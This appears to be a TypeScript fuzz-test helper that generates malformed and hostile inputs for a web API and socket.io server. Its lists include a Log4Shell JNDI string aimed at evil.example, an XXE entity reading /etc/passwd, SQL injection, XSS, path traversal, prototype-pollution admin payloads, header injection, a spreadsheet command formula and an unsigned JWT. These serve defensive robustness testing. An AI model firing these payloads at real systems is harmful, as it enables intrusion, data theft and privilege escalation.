import type { Schema } from './api-operations.js';

/** Internals that no response may contain. */
export const INSIDE =
  /node_modules|\bat .+:\d+:\d+|mongo|E11000|bson|redis|ECONN|zod|fastify|cast to/i;

const OPERATORS = [{ $gt: '' }, { $ne: null }, { $where: 'sleep(1000)' }, { $regex: '.*' }];
const nested = (depth: number) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown;
/** Values that are neither strings nor numbers nor booleans. */
const NO_SCALARS: unknown[] = [...OPERATORS, nested(2_000), [], [[]], { toString: 1 }, {}];
const FOREIGN_KEYS = ['$set', '$where', 'role', 'isAdmin', '_id', '__v', 'version ', 'a.b', ''];
const BROKEN_JSON = [
  '{',
  '',
  'null',
  'true',
  '[]',
  '"text"',
  '1e999',
  "{'a':1}",
  '{"a":1}}',
  '{"a":NaN}',
  '{"__proto__":{"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '['.repeat(100_000),
  `{"a":"${'x'.repeat(1_200_000)}"}`,
  '\u0000',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
];
export const BAD_MEDIA_TYPES = [
  'text/plain',
  'application/xml',
  'multipart/form-data',
  'application/x-www-form-urlencoded',
  'application/json; charset=nonsense',
  'image/png',
  'image/svg+xml',
  ' ',
];
export const BAD_IDS = [
  'nobody',
  '%00',
  '%2e%2e%2f',
  '__proto__',
  'constructor',
  '%7B%22%24gt%22%3A%22%22%7D',
  'F'.repeat(25),
  '-1',
  '%F0%9F%A5%95',
  'x'.repeat(3_000),
  '%E0%A4%A',
  'null',
];

type Fields = Record<string, unknown>;
const isFields = (value: unknown): value is Fields =>
  value !== null && typeof value === 'object' && !Array.isArray(value);

/** Every place in a sample, with its value and schema; the root first. */
export function placesIn(schema: Schema, value: unknown, at: (string | number)[] = []): Place[] {
  const own = { schema, value, at };
  if (Array.isArray(value))
    return [own, ...value.flatMap((one, n) => placesIn(schema.items ?? {}, one, [...at, n]))];
  if (!isFields(value)) return [own];
  const fields = Object.entries(value).flatMap(([name, child]) =>
    placesIn(schema.properties?.[name] ?? {}, child, [...at, name]),
  );
  return [own, ...fields];
}
export interface Place {
  readonly schema: Schema;
  readonly value: unknown;
  readonly at: (string | number)[];
}

export function replacedAt(
  value: unknown,
  [step, ...rest]: (string | number)[],
  by: unknown,
): unknown {
  if (step === undefined) return by;
  const copy = structuredClone(value) as Fields;
  copy[step] = replacedAt(copy[step], rest, by);
  return copy;
}

/** Picks a value by a number of any size. */
export const oneOf = <Value>(values: readonly Value[], n: number): Value => {
  const value = values[n % values.length];
  if (value === undefined) throw new Error('nothing to choose from');
  return value;
};

/** A body that violates the schema of the operation. */
export function badBody(schema: Schema, good: unknown, kind: number, n: number): string {
  const all = placesIn(schema, good);
  if (kind === 0) {
    const scalars = all.filter(({ schema: { type, enum: values } }) =>
      ['string', 'number', 'integer', 'boolean'].includes(type ?? (values ? 'string' : '')),
    );
    if (scalars.length > 0)
      return JSON.stringify(replacedAt(good, oneOf(scalars, n).at, oneOf(NO_SCALARS, n >> 4)));
  }
  if (kind === 1) {
    const { at, value } = oneOf(
      all.filter((place) => isFields(place.value)),
      n,
    );
    return JSON.stringify(
      replacedAt(good, at, { ...(value as Fields), [oneOf(FOREIGN_KEYS, n >> 4)]: 1 }),
    );
  }
  if (kind === 2 && isFields(good) && (schema.required?.length ?? 0) > 0) {
    const { [oneOf(schema.required ?? [], n)]: _, ...rest } = good;
    return JSON.stringify(rest);
  }
  return oneOf(BROKEN_JSON, n);
}

/** Headers that no browser sends. */
export const BAD_HEADERS: readonly Record<string, string>[] = [
  { authorization: 'Bearer ' },
  { authorization: 'Bearer a b c' },
  { authorization: `Bearer ${'x'.repeat(7_000)}` },
  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.' },
  { 'x-request-id': '$' + '{jndi:ldap://evil.example/a}' },
  { 'idempotency-key': 'x'.repeat(5_000) },
  { 'x-forwarded-for': "'; drop table users; --" },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-http-method-override': 'DELETE' },
  { 'accept-encoding': 'gzip;q=__proto__, *;q=9e9' },
  { accept: 'application/x-__proto__' },
  { 'accept-language': '../../../etc/passwd\u00ff' },
  { 'if-none-match': '*' },
  { range: 'bytes=0-0,5-1,-9' },
  { cookie: '__proto__=x; constructor=y; ='.repeat(50) },
  { origin: 'null' },
  { 'content-type': 'application/json' },
];

/** Query values that no parameter accepts. */
export const BAD_QUERY_VALUES = [
  '',
  '-1',
  '1e9',
  'NaN',
  '[object Object]',
  '%00',
  '%F0%9F%A5%95',
  'x'.repeat(4_000),
  '%E0%A4%A',
  '__proto__',
  '2026-13-45',
  '9'.repeat(400),
  '%22%3B%20drop',
  '../../etc/passwd',
  'eyJhIjoxfQ',
  '%ED%A0%80',
  '(?:(a%2B)%2B)%2B$',
];

/** Texts that are valid JSON, but break careless code. */
export const ODD_TEXTS = [
  '\u0000',
  '\ud800',
  '\udfff\ud800',
  '\u202Etxt.exe',
  'e\u0301'.repeat(50),
  '👩‍🌾',
  '#{7*7}',
  '=cmd|calc!A1',
  '<img src=x onerror=alert(1)>',
  "'; drop table orders; --",
  '\r\nSet-Cookie: a=b',
  '%0d%0a',
  '\uFEFF',
  ' '.repeat(40),
  '{{constructor}}',
  '\u2800\u3164\u115F\uFFA0',
  '\u00AD\u200B\u2060\u180E',
  'a\u202Eb\u2066c',
  '\u202Aa\u202C\u2069',
  'a\u0007b\u009Fc\u001B[31m',
  'Jose\u0301 \u200EMun\u0303oz\u200F',
  'a\uD83E',
  '１２３４５－６７８９',
  '🏳️‍🌈👩🏽‍🌾',
];
/** What no stored text has: broken characters, controls, and what reorders or shows nothing. */
export const NEVER_STORED =
  /\p{Surrogate}|\uFFFD|[^\P{Cc}\n\t]|[\u202A-\u202E\u2066-\u2069\u2800\u3164\u115F\uFFA0\uFEFF]/u;

const ID = 'f'.repeat(24);
/** Invalid payloads of `product.watch`. */
const BAD_WATCHES: unknown[] = [
  ...NO_SCALARS,
  null,
  0,
  'x'.repeat(4_000),
  ...NO_SCALARS.flatMap((value) => [
    { productIds: value },
    { productIds: [value] },
    { productIds: [ID], since: value },
    { productIds: [ID], farmIds: value },
    { productIds: [ID], farmIds: [value] },
    { productIds: [ID], since: { position: value } },
    { productIds: [ID], since: { ms: value } },
  ]),
  ...ODD_TEXTS.map((text) => ({ productIds: [text] })),
  ...FOREIGN_KEYS.map((key) => ({ productIds: [ID], [key]: 1 })),
  { productIds: [ID], since: { ms: -1 } },
  { productIds: [ID], since: { ms: 1e300 } },
  { productIds: [ID], since: { position: '00000000.0-0', ms: 0 } },
  { productIds: Array.from({ length: 500 }, () => ID) },
  { productIds: [ID], farmIds: Array.from({ length: 500 }, () => ID) },
  { productIds: { length: 1e9, 0: ID } },
];
/** Payloads that JSON can express, but literals cannot. */
const BAD_JSON = [
  '{"productIds":[],"__proto__":{"role":"admin"}}',
  '{"__proto__":{"productIds":[]}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"productIds":{"__proto__":[]}}',
  '{"_placeholder":true,"num":0}',
  '{"_placeholder":true,"num":-1}',
  '{"productIds":',
  '1e999',
  `${'['.repeat(3_000)}${']'.repeat(3_000)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
];
const BAD_NAMES = [
  ...['__proto__', 'constructor', 'toString', 'connect', 'connect_error', 'disconnect'],
  ...['disconnecting', 'newListener', 'removeListener', 'error', 'join', 'order.placed'],
  ...['product.unwatch', '', ' ', '*'],
];
/** Texts that are no socket.io packet, or none that a client sends. */
const BAD_PACKETS = [
  ...['', '4', '3', '30[]', '3999999999[]', '3-1[]', '5', '51-["product.watch"]', '5-["x"]'],
  ...['51-["product.watch",{"_placeholder":true,"num":0}]', '59999999999-["x"]', '61-0[]'],
  ...['2', '2[]', '2{}', '2["product.watch"', '2[null]', '2[[]]', '2[{}]', '2[1]', '2["x",', '7'],
  ...['2-1["x"]', '299999999999999999999["product.watch",{}]', '2/,["x"]', '2/admin,["x"]'],
  ...[
    '0',
    '0{}',
    '0{"ticket":{}}',
    '0{"__proto__":{"ticket":"x"}}',
    '0[',
    '0/admin,',
    '0/__proto__,{}',
  ],
  ...['4{"message":"x"}', '\u0000', '\ud800', '2["\ud800"]', 'x'.repeat(8_000), '0'.repeat(200)],
];

/** The text of one packet that no page sends: with an invalid payload, JSON, event name or frame. */
export function badPacket(kind: number, n: number): string {
  const ack = n % 3 === 0 ? '' : String(n % 1_000);
  const watch = (payload: string) => `2${ack}["product.watch",${payload}]`;
  switch (kind % 4) {
    case 0:
      return watch(JSON.stringify(oneOf(BAD_WATCHES, n)));
    case 1:
      return watch(oneOf(BAD_JSON, n));
    case 2:
      return `2${ack}[${JSON.stringify(oneOf(BAD_NAMES, n))},${JSON.stringify(oneOf(BAD_WATCHES, n >> 4))}]`;
    default:
      return oneOf(BAD_PACKETS, n);
  }
}
